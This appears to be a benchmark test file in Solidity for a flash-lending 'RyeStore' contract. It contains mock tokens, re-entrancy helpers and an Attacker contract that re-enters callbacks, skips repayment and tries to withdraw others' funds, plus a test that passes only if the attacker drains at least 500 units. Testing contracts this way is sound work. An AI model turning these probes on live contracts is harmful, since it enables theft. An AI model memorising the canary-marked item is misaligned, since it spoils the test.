// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import "./RyeStore.sol";

// assay-canary-6c859080-2295-45f4-aebd-01ee0cc14d98

interface Vm {
    function prank(address who) external;
    function expectRevert(bytes4 reason) external;
    function expectRevert(bytes calldata reason) external;
}

contract Flour is IFlour {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Pair is IGrainPair {
    function getReserves() external view returns (uint112, uint112, uint32) {
        return (1000e18, 500e18, uint32(block.timestamp));
    }
}

/// Bakes a batch and brings all back.
contract Baker is IBaker {
    Flour internal flour;

    constructor(Flour flour_) {
        flour = flour_;
    }

    function bake(RyeStore store, uint256 kilos) external {
        store.borrowForBatch(kilos, "rye, water, salt");
    }

    function onFlour(uint256, uint256 toReturn, bytes calldata) external {
        flour.transfer(msg.sender, toReturn);
    }
}

contract Attacker is IBaker {
    RyeStore internal store;
    Flour internal flour;
    address internal other;

    constructor(RyeStore store_, Flour flour_, address other_) {
        (store, flour, other) = (store_, flour_, other_);
        flour_.approve(address(store_), type(uint256).max);
    }

    function onFlour(uint256 amount, uint256 toReturn, bytes calldata recipe) external {
        uint8 plan = uint8(recipe[0]);
        if (plan == 1) return;
        if (plan == 2) flour.transfer(address(store), amount);
        if (plan == 3) store.bring(toReturn);
        if (plan < 4) return;
        if (plan == 4) try store.fetch(1e18) {} catch {}
        if (plan == 5) try store.rename(other, 1e18) {} catch {}
        if (plan == 6) try store.borrowForBatch(1e18, hex"07") {} catch {}
        flour.transfer(address(store), toReturn);
    }

    function run() external {
        uint256 all = store.stored();
        try store.fetchFor(other, 1e18) {} catch {}
        try store.borrowForBatch(all + 1, hex"07") {} catch {}
        try store.borrowForBatch(1, hex"02") {} catch {}
        try store.borrowForBatch(0, hex"07") {} catch {}

        store.bring(5e18);
        for (uint8 plan = 4; plan < 8; ++plan) {
            try store.borrowForBatch(store.stored() / 4, abi.encodePacked(plan)) {} catch {}
        }
        try store.rename(address(this), 5e18) {} catch {}
        try store.rename(address(this), 6e18) {} catch {}
        try store.fetch(6e18) {} catch {}
        try store.fetch(5e18) {} catch {}
        try store.fetch(0) {} catch {}
        try store.bring(5e18) {} catch {}
        try store.fetch(5e18) {} catch {}

        for (uint8 plan = 1; plan < 4; ++plan) {
            try store.borrowForBatch(all, abi.encodePacked(plan)) {} catch {}
        }
        (uint256 mine, ) = store.sacksOf(address(this));
        try store.fetch(mine) {} catch {}
    }
}

/// A token that answers "false" where others revert: always, or only when it pays out.
contract Polite is IFlour {
    bool internal takes;

    constructor(bool takes_) {
        takes = takes_;
    }

    function balanceOf(address) external pure returns (uint256) {
        return 0;
    }

    function transfer(address, uint256) external pure returns (bool) {
        return false;
    }

    function transferFrom(address, address, uint256) external view returns (bool) {
        return takes;
    }
}

/// Makes another call of the store while a batch is out, and hands on its refusal.
contract Hasty is IBaker {
    function bake(RyeStore store, bytes calldata meanwhile) external {
        store.borrowForBatch(1e18, meanwhile);
    }

    function onFlour(uint256, uint256, bytes calldata meanwhile) external {
        (bool ok, bytes memory out) = msg.sender.call(meanwhile);
        if (!ok) {
            assembly {
                revert(add(out, 32), mload(out))
            }
        }
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);

    address internal constant UTE = address(0x07E);
    address internal constant VIT = address(0x717);
    Flour internal flour;
    RyeStore internal store;
    Attacker internal weevil;

    function setUp() public {
        flour = new Flour();
        store = new RyeStore(flour, new Pair());
        weevil = new Attacker(store, flour, UTE);
        flour.mint(address(weevil), 10e18);
        _bring(UTE, 750e18);
        _bring(VIT, 250e18);
    }

    function _bring(address who, uint256 kilos) private {
        flour.mint(who, kilos);
        vm.prank(who);
        flour.approve(address(store), kilos);
        vm.prank(who);
        store.bring(kilos);
    }

    function _try(bytes memory data) private returns (bool ok) {
        (ok, ) = address(store).call(data);
    }

    function test_Regular() public {
        Baker baker = new Baker(flour);
        flour.mint(address(baker), 1e18);
        baker.bake(store, 800e18);
        (uint256 kilos, uint256 tolls) = store.sacksOf(UTE);
        require(kilos == 750e18 && tolls == 0.3e18, "three quarters of the toll");
        require(store.slate(VIT) == 125e18, "slate");

        vm.prank(UTE);
        store.rename(VIT, 250e18);
        baker.bake(store, 1000e18);
        (kilos, tolls) = store.sacksOf(VIT);
        require(kilos == 500e18 && tolls == 0.35e18, "renamed sacks earn in the new name");
        vm.prank(VIT);
        require(!_try(abi.encodeCall(store.fetch, (501e18))), "not that many");
        vm.prank(VIT);
        store.fetch(500e18);
        require(flour.balanceOf(VIT) == 500.35e18, "with the tolls");

        require(!_try(abi.encodeCall(store.fetchFor, (UTE, 1))), "not told to");
        vm.prank(UTE);
        store.allowFetch(address(this), 100e18);
        store.fetchFor(UTE, 100e18);
        require(flour.balanceOf(UTE) == 100.55e18 && flour.balanceOf(address(this)) == 0, "to the baker");
        require(!_try(abi.encodeCall(store.fetchFor, (UTE, 1))), "used up");
        (kilos, tolls) = store.sacksOf(UTE);
        require(store.stored() == 400e18 && flour.balanceOf(address(store)) == 400e18 && tolls == 0, "books");
    }

    function _notEnough(uint256 there) private pure returns (bytes memory) {
        return abi.encodeWithSelector(RyeStore.NotEnough.selector, there);
    }

    function test_RefusesMoreThanThereIs() public {
        vm.prank(UTE);
        vm.expectRevert(_notEnough(750e18));
        store.rename(VIT, 750e18 + 1);
        vm.prank(VIT);
        vm.expectRevert(_notEnough(250e18));
        store.fetch(250e18 + 1);

        // flour that is in the store and in no book
        flour.mint(address(store), 1e18);
        vm.expectRevert(_notEnough(1000e18));
        store.borrowForBatch(1000e18 + 1, "");
        RyeStore empty = new RyeStore(flour, new Pair());
        vm.expectRevert(_notEnough(0));
        empty.borrowForBatch(0, "");
    }

    function test_RefusesWithdrawalsWhileABatchIsOut() public {
        Hasty hasty = new Hasty();
        bytes[4] memory calls = [
            abi.encodeCall(RyeStore.fetch, (0)),
            abi.encodeCall(RyeStore.fetchFor, (address(hasty), 0)),
            abi.encodeCall(RyeStore.rename, (UTE, 0)),
            abi.encodeCall(RyeStore.borrowForBatch, (0, ""))
        ];
        for (uint256 i = 0; i < calls.length; i++) {
            vm.expectRevert(RyeStore.BatchIsOut.selector);
            hasty.bake(store, calls[i]);
        }
    }

    function test_RefusesWhatTheFlourRefuses() public {
        RyeStore other = new RyeStore(new Polite(false), new Pair());
        vm.expectRevert(RyeStore.FlourRefused.selector);
        other.bring(1e18);
        other = new RyeStore(new Polite(true), new Pair());
        other.bring(1e18);
        vm.expectRevert(RyeStore.FlourRefused.selector);
        other.fetch(1e18);
        vm.expectRevert(RyeStore.FlourRefused.selector);
        other.borrowForBatch(1e18, "");
    }

    function exploit() public {
        weevil.run();
    }

    function test_Exploit() public {
        uint256 before = flour.balanceOf(address(weevil));
        exploit();
        require(flour.balanceOf(address(weevil)) - before >= 500e18, "nothing gained");
    }

    function token() public view returns (address) {
        return address(flour);
    }

    function target() public view returns (address) {
        return address(store);
    }

    function attacker() public view returns (address) {
        return address(weevil);
    }
}
